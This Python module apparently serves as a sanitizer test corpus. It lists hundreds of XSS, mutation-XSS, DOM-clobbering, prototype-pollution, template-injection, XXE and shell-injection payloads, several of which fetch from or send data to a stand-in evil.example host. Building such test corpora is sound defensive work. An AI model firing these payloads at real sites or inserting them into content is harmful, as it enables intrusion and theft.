"""Texts that would run a script or load something, were they taken for markup: written out by family.

Every script calls ``alert``, every address is at ``evil.example``, so that a browser tells if one of them works.
Where each comes from is told by its family; the combinations are ours.
"""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_EVIL = "https://evil.example"

# An element that loads, or gets an event, by itself; the attribute waits for its value.
_EVENTS = [
    "<img src=x onerror={}>", "<img src=x: onerror={}>", "<img srcset=x onerror={}>", "<image src=x onerror={}>",
    "<body onload={}>", "<body onpageshow={}>", "<body onresize={}>", "<body onhashchange={}>",
    "<svg onload={}>", "<svg/onload={}//", "<iframe onload={}></iframe>", "<frameset onload={}>",
    "<object data=x onerror={}></object>", "<embed src=x onload={}>", "<script src=x onerror={}></script>",
    "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>", "<input autofocus onfocus={}>",
    "<input type=image src=x onerror={}>", "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>", "<button autofocus onfocus={}>b</button>",
    "<a autofocus href=x onfocus={}>a</a>", "<div contenteditable autofocus onfocus={}>d</div>",
    "<div tabindex=1 autofocus onfocus={}>d</div>", "<details open ontoggle={}>d</details>",
    "<video src=x onerror={}></video>", "<video><source onerror={}></video>", "<audio src=x onerror={}></audio>",
    "<video autoplay onloadstart={} src=x></video>", "<marquee onstart={}>m</marquee>",
    "<marquee loop=1 width=0 onfinish={}>m</marquee>", "<isindex type=image src=x onerror={}>",
    "<form><button onclick={}>b</button></form>", "<p onmouseover={}>p</p>", "<b onpointerenter={}>b</b>",
    "<x onclick={} id=x>x</x>", "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={}>b</b>",
    "<b style='transition:color 1s' ontransitionend={}>b</b>", "<xss onbeforematch={} hidden=until-found>x</xss>",
    "<dialog open onclose={}><form method=dialog><button>b</button></form></dialog>", "<slot onslotchange={}></slot>",
    "<button popovertarget=x>b</button><xss popover id=x onbeforetoggle={}>x</xss>",
    "<input oncontentvisibilityautostatechange={} style=content-visibility:auto>",
    "<meter onmouseover={}>0</meter>", "<svg><a onclick={}><text>t</text></a></svg>",
    "<math><mi onclick={}>x</mi></math>", "<noscript><img src=x onerror={}></noscript>",
]  # fmt: skip

# Ways of writing one element that parsers forgive and filters overlook.
_DISGUISES = [
    "<img/src=x/onerror=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<iMg sRc=x oNeRrOr=alert(1)>",
    "<img src='x'onerror='alert(1)'>", '<img src="x"onerror="alert(1)">', "<img src=`x` onerror=`alert(1)`>",
    "<img src=x onerror=alert(1)", "<img src=x onerror=alert(1)//", "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)<!--", "<img \x00src=x onerror=alert(1)>", "<im\x00g src=x onerror=alert(1)>",
    "\x00<img src=x onerror=alert(1)>", "<img src=x one\x00rror=alert(1)>", "<img src=x onerror=\x00alert(1)>",
    "<img src=x onerror\x0b=alert(1)>", "<img src=x onerror =alert(1)>", "<img src=x onerror= alert(1)>",
    "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=&#x61lert(1)>", "<img src=x onerror=a&#108ert(1)>",
    "<img src=x onerror=\\u0061lert(1)>", "<img src=x onerror=alert`1`>", "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=x onerror='alert&#40;1&#41;'>", "<img src=x alt=> onerror=alert(1)>", "<img alt='<x' src=x onerror=alert(1)>",
    "<img src=x title='>' onerror=alert(1)>", "</img src=x onerror=alert(1)>", "<?img src=x onerror=alert(1)?>",
    "<!img src=x onerror=alert(1)>", "<%img src=x onerror=alert(1)%>", "<img src=x onerror=alert(1) /",
    "<\u2028img src=x onerror=alert(1)>", "<\ufeffimg src=x onerror=alert(1)>", "<\u00adimg src=x onerror=alert(1)>",
    "\uff1cimg src=x onerror=alert(1)\uff1e", "\u2039img src=x onerror=alert(1)\u203a", "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\u0131mg \u017fcript <\u017fcript>alert(1)</\u017fcript>",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;", "&#0000060img src=x onerror=alert(1)>", "&LT;img src=x onerror=alert(1)&GT;",
    "&lt;script>alert(1)&lt;/script>", "&NewLine;<img src=x onerror=alert(1)>", "<&#105;mg src=x onerror=alert(1)>",
    "\ud83d<img src=x onerror=alert(1)>".encode("utf-8", "replace").decode(), "\u202e>)1(trela=rorreno x=crs gmi<",
]  # fmt: skip

_SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<script>alert(1)", "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>", "<script src='data:text/javascript,alert(1)'></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>", "<script type=importmap>{}</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<script>/*</script>*/alert(1)</script>",
    "<script><!--\nalert(1)\n--></script>", "<script language=vbscript>alert(1)</script>", "<script for=window event=onload>alert(1)</script>",
    "</script><script>alert(1)</script>", "</SCRIPT ><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
    "</p></div></details></article></section></main></body><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>", "<!---><script>alert(1)</script>", "<!--<img src='--><script>alert(1)</script>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
]  # fmt: skip

# Where what is parsed twice, or by two parsers, is not the same twice (mutation XSS).
_MUTATIONS = [
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'>", "<svg><title><style></title><img src=x onerror=alert(1)></style>",
    "<svg><desc><b></svg><img src=x onerror=alert(1)>", "<svg><foreignobject><p><svg></p><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<table><img src=x onerror=alert(1)></table>", "<table><td><math><mi><td><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<select><script>alert(1)</script></select>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>", "<colgroup><img src=x onerror=alert(1)>",
    "<b><p><b></b><img src=x onerror=alert(1)></p>", "<a><a><img src=x onerror=alert(1)></a></a>", "<form><form><input name=attributes>",
    "<img alt=\"<x' onerror=alert(1) src=x y='>\">", "<p title='`<img src=x onerror=alert(1)>`'>", "<a title='\" onmouseover=alert(1) x=\"'>a</a>",
    "<annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation><img src=x onerror=alert(1)></annotation></semantics></math>",
    "</annotation></semantics></math><img src=x onerror=alert(1)>", "</math><img src=x onerror=alert(1)>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>", "<!--!><img src=x onerror=alert(1)>", "<!--x--!><img src=x onerror=alert(1)>",
    "<?><img src=x onerror=alert(1)?>", "<!<img src=x onerror=alert(1)>", "</ <img src=x onerror=alert(1)>", "<a/\"<img src=x onerror=alert(1)>",
]  # fmt: skip

_FOREIGN = [
    "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=data:,alert(1) />", "<svg><a href=javascript:alert(1)><text x=9 y=9>t</text></a></svg>",
    "<svg><a xlink:href=javascript:alert(1)><rect width=9 height=9 /></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9 y=9>t</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=9 y=9>t</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' /></svg>",
    "<svg><image href=https://evil.example/x.png onerror=alert(1) /></svg>", "<svg><feimage href=https://evil.example/x.svg /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>", "<svg><discard onbegin=alert(1)>",
    "<math href=javascript:alert(1)>m</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>m</maction></math>",
    "<math><mi xlink:href=javascript:alert(1)>m</mi></math>", "<math xlink:href=javascript:alert(1)><mtext>m</mtext></math>",
    "<math><mglyph src=https://evil.example/x.png /></math>", "<math><ms href=javascript:alert(1)>m</ms></math>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml></semantics></math>",
]  # fmt: skip

# Nothing runs here: something is fetched, or the reader is led or tracked.
_LOADS = [
    "<img src=https://evil.example/x.png>", "<img src=//evil.example/x.png>", "<img srcset='https://evil.example/x.png 2x'>",
    "<img lowsrc=https://evil.example/x>", "<picture><source srcset=https://evil.example/x.png><img></picture>",
    "<video poster=https://evil.example/x.png></video>", "<video src=https://evil.example/x.mp4></video>", "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<track src=https://evil.example/x.vtt>", "<iframe src=https://evil.example/></iframe>", "<iframe srcdoc='<img src=https://evil.example/x>'></iframe>",
    "<object data=https://evil.example/x.swf></object>", "<embed src=https://evil.example/x.swf>", "<applet code=https://evil.example/x.class></applet>",
    "<portal src=https://evil.example/></portal>", "<fencedframe></fencedframe>", "<frameset><frame src=https://evil.example/></frameset>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=preload as=script href=https://evil.example/x.js>",
    "<link rel=prefetch href=https://evil.example/>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>",
    "<link rel=modulepreload href=https://evil.example/x.js>", "<link rel=icon href=https://evil.example/x.ico>", "<link rel=manifest href=https://evil.example/m>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content='a=b'>", "<meta name=referrer content=unsafe-url>", "<table background=https://evil.example/x.png><td>t</td></table>",
    "<body background=https://evil.example/x.png>", "<input type=image src=https://evil.example/x.png>", "<a href=https://evil.example/ ping=https://evil.example/p>a</a>",
    "<form action=https://evil.example/><input name=q><button>b</button></form>", "<button formaction=javascript:alert(1)>b</button>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form id=x></form><button form=x formaction=https://evil.example/>b</button>",
    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"https://evil.example/\"]}]}</script>", "<html manifest=https://evil.example/m>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}*{font-family:x}</style>", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<div style=background:url(https://evil.example/x.png)>d</div>", "<div style='background-image:\\75rl(https://evil.example/x.png)'>d</div>",
    "<div style='width:expression(alert(1))'>d</div>", "<div style='-moz-binding:url(https://evil.example/x.xml#x)'>d</div>",
    "<div style='behavior:url(https://evil.example/x.htc)'>d</div>", "<div style='list-style:url(javascript:alert(1))'>d</div>",
    "<div style='position:fixed;inset:0;z-index:9;background:red'>d</div>", "<style>body{display:none}</style>", "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "</style><style>*{display:none}</style>", "*/ body{display:none} /*",
]  # fmt: skip

# Names that hide the page's own (DOM clobbering), and words that objects of JavaScript are made with.
_CLOBBERS = [
    f"<{tag}>" for tag in (
        "form id=main", "a id=location href=javascript:alert(1)", "img name=body", "img name=getElementById", "form name=head",
        "a id=trustedTypes", "a id=defaultView", "iframe name=self srcdoc=x", "form id=document><input name=cookie",
        "input form=x name=attributes", "object id=currentScript data=x", "embed name=querySelector", "a id=toc",
    )
] + [
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "__proto__[x]=1", '{"__proto__":{"x":1}}',
    "constructor.constructor('alert(1)')()", "valueOf", "length", "undefined", "null", "NaN", "then",
]  # fmt: skip

_TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{% raw %}{{ x }}{% endraw %}",
    "{% for x in range(9**9) %}x{% endfor %}", "{{ self.__init__.__globals__ }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# comment #}", "{%- set x = 1 -%}", "{{'<script>alert(1)</script>'|safe}}", "{% autoescape false %}<script>alert(1)</script>{% endautoescape %}",
    "{% endblock %}<script>alert(1)</script>", "{{", "}}", "{%", "%}", "{#", "${7*7}", "#{7*7}", "@(7*7)", "*{7*7}", "~{x}", "<%= 7*7 %>", "<#if 1==1>x</#if>",
    "<?php echo 7*7; ?>", "<?= 7*7 ?>", "#set($x=7*7)$x", "{php}echo 7*7;{/php}", "{{{7*7}}}", "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}", "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div x-data x-init=alert(1)></div>", "<div hx-get=https://evil.example/ hx-trigger=load></div>", "[[${7*7}]]", "<th:block th:utext='${7*7}'/>",
    "%{7*7}", "%(title)s", "%s%n%x", "{0.__class__}", "{title!r:>9999999}", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS", "!!python/object/apply:os.system [id]",
]  # fmt: skip

_IN_SCRIPTS = [
    "\"-alert(1)-\"", "'-alert(1)-'", "\\\"-alert(1)//", "\\';alert(1)//", "\";alert(1);//", "`${alert(1)}`", "\u2028alert(1)//", "\u2029alert(1)//",
    "</script><svg onload=alert(1)>", "<!--<script>", "<!--<script>--></script><img src=x onerror=alert(1)>", "-->alert(1)", "*/alert(1)/*", "//\nalert(1)",
    "\"}</script><script>alert(1)</script>", "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "` onmouseover=alert(1) x=`", " onmouseover=alert(1) ", "\" autofocus onfocus=alert(1) x=\"",
    "x\" style=\"background:url(https://evil.example/)\" y=\"", "/onmouseover=alert(1)/", "&quot; onmouseover=alert(1) x=&quot;", "&#34; onmouseover=alert(1) x=&#34;", "\\\" onmouseover=alert(1) x=\\\"",
]  # fmt: skip

# Addresses that are no place of the web, in the disguises that parsers of addresses see through.
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\x01javascript:alert(1)", "\u00a0javascript:alert(1)",
    "java\tscript:alert(1)", "java\rscript:alert(1)", "java\x00script:alert(1)", "javascript\t:alert(1)", "javascript :alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)", "%6aavascript:alert(1)", "\\x6aavascript:alert(1)", "\\u006aavascript:alert(1)", "javascript://%0aalert(1)", "javascript://https://a.org/%0aalert(1)",
    "javascript:https://a.org", "javascript:/*https://a.org*/alert(1)", "jav\u00adascript:alert(1)", "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)", "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "jar:https://evil.example!/x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "DATA:text/html,x", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd",
    "ftp://evil.example/", "ws://evil.example/", "about:blank", "chrome://settings", "intent://x#Intent;end", "tel:+1", "sms:+1", "feed:javascript:alert(1)", "x-apple:y", "ms-settings:",
    "//evil.example/", "\\\\evil.example\\", "/\\evil.example", "///evil.example", "https:evil.example", "http:///evil.example", "https://", "https://a.org@evil.example/", "https://a.org\\@evil.example/",
    "https://evil.example\\.a.org/", "https://a.org#\"onclick=\"alert(1)", "https://a.org/\"onclick=\"alert(1)", "https://a.org/'onclick='alert(1)", "https://a.org/><img src=x onerror=alert(1)>",
    "https://a.org/\nonclick=alert(1)", "https://a.org/?x=<script>alert(1)</script>", "https://[::1", "https://\u202eevil", "https://a.org:99999/", "https://xn--a/", "../../../etc/passwd", "?q=<script>", "#\"><script>",
]  # fmt: skip

_HOLDERS = [
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "\\href{{{}}}{{x}}",
    "\\url{{{}}}",
    "<a href='{}'>x</a>",
    "[x]: {}\n\n[x]",
    "{}",
]

_MARKDOWN = [
    '[x](https://a.org "onmouseover=alert(1)")', '[x](https://a.org"onmouseover="alert(1))', "[x](https://a.org 'x' onclick=alert(1))", "[<img src=x onerror=alert(1)>](https://a.org)",
    "[x](https://a.org)<img src=x onerror=alert(1)>", "[[x](https://a.org)](javascript:alert(1))", "[x](https://a.org(javascript:alert(1)))", "![x\" onerror=\"alert(1)](https://a.org/x.png)",
    "![x](https://evil.example/x.png)", "![x](https://evil.example/x.png \"t\")", "![][x]\n\n[x]: https://evil.example/x.png", "<https://a.org/onclick=alert(1)>", "<mailto:x@y.z?body=<script>>",
    "`<script>alert(1)</script>`", "``<script>alert(1)</script>``", "```html\n<script>alert(1)</script>\n```", '```"><img src=x onerror=alert(1)>\nx\n```', "~~~\n<script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>", "> <script>alert(1)</script>", "# <script>alert(1)</script>", "- <script>\n- alert(1)</script>", "1. <img src=x onerror=alert(1)>", "| <script> | alert(1) |\n|--|--|\n| x | y |",
    "**<b onclick=alert(1)>x</b>**", "*<img src=x onerror=alert(1)>*", "_<img src=x onerror=alert(1)>_", "**bold*<script>*alert(1)", "[^x]\n\n[^x]: <script>alert(1)</script>", "x\n: <script>alert(1)</script>",
    "{: onclick=alert(1) }", "{#x onclick=alert(1)}", "*[x]: <script>", "!!! note <script>", "<div markdown=1><script>alert(1)</script></div>", "\\<script>alert(1)\\</script>", "&lt;script&gt;",
    "<script\n\n>alert(1)</script>", "<div>\n\n<script>alert(1)</script>\n\n</div>", "\x02klzzwxh:0001\x03<script>alert(1)</script>", "wzxhzdk:0<script>alert(1)</script>", "\x0e0\x0f<script>alert(1)</script>",
    "</details><script>alert(1)</script>", "<summary><script>alert(1)</script></summary>", "<details open><summary>x</summary><script>alert(1)</script>", "### [1] [x](javascript:alert(1))", "Abstract: <script>alert(1)</script>",
]  # fmt: skip

_TEX = [
    r"$\href{javascript:alert(1)}{x}$", r"$\url{javascript:alert(1)}$", r"$\style{background:url(https://evil.example)}{x}$", r"$\class{evil}{x}$", r"$\cssId{main}{x}$", r"$\data{onclick=alert(1)}{x}$",
    r"$\htmlData{x=y}{z}$", r"$\htmlStyle{color:red}{x}$", r"$\htmlId{main}{x}$", r"$\htmlClass{x}{y}$", r"$\includegraphics{https://evil.example/x.png}$", r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$", r"$\mathrm{<img src=x onerror=alert(1)>}$", r"$\operatorname{</math><script>alert(1)</script>}$", r"$\unicode{x3C}img src=x onerror=alert(1)\unicode{x3E}$",
    r"$\color{red;background:url(https://evil.example)}x$", r"$\colorbox{red\" onclick=\"alert(1)}{x}$", r"$\textcolor{<script>}{x}$", r"$\label{<script>}\ref{x}\eqref{javascript:alert(1)}$", r"$\tag{<script>alert(1)</script>}$",
    r"$\begin{array}{<script>}x\end{array}$", r"$\begin{<script>}x\end{<script>}$", r"$\def\x{<script>}\x$", r"$\newcommand{\a}{<img src=x onerror=alert(1)>}\a$", r"$\require{html}\href{javascript:alert(1)}{x}$", r"$<img src=x onerror=alert(1)>$",
    r"$$<script>alert(1)</script>$$", r"\[</annotation></semantics></math><script>alert(1)</script>\]", r"\(<annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>\)", r"\href{https://a.org}{<script>alert(1)</script>}",
    r'\href{https://a.org/"onclick="alert(1)}{x}', r'\url{https://a.org/"onclick="alert(1)}', r"\texttt{<script>alert(1)</script>}", r"\textless script\textgreater alert(1)\textless/script\textgreater", r"\textbf{<img src=x onerror=alert(1)>}",
    r"\begin{equation}<script>alert(1)</script>\end{equation}", r"\begin{itemize}\item <script>alert(1)</script>\end{itemize}", r"\footnote{<img src=x onerror=alert(1)>}", r"\cite{<script>alert(1)</script>}", r"\write18{id}", r"\input{/etc/passwd}",
    r"\includegraphics{https://evil.example/x.png}", r"\verb|<script>alert(1)</script>|", r"\lstinline{<script>}", r"\char60 script\char62 alert(1)",
]  # fmt: skip

FAMILIES: dict[str, list[str]] = {
    "events": [text.format(_RUN) for text in _EVENTS],
    "disguises": _DISGUISES,
    "scripts": _SCRIPTS,
    "mutations": _MUTATIONS,
    "foreign": _FOREIGN,
    "loads": _LOADS,
    "clobbers": _CLOBBERS,
    "templates": _TEMPLATES,
    "in-scripts": _IN_SCRIPTS,
    # Every disguise where it is most likely to be followed, and each way to write a link with every third.
    "schemes": list(
        dict.fromkeys(
            holder.format(scheme)
            for (n, scheme), (m, holder) in product(enumerate(SCHEMES), enumerate(_HOLDERS))
            if m == 0 or (n + m) % 3 == 0
        )
    ),
    "markdown": _MARKDOWN,
    "tex": _TEX,
}
VECTORS: list[str] = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
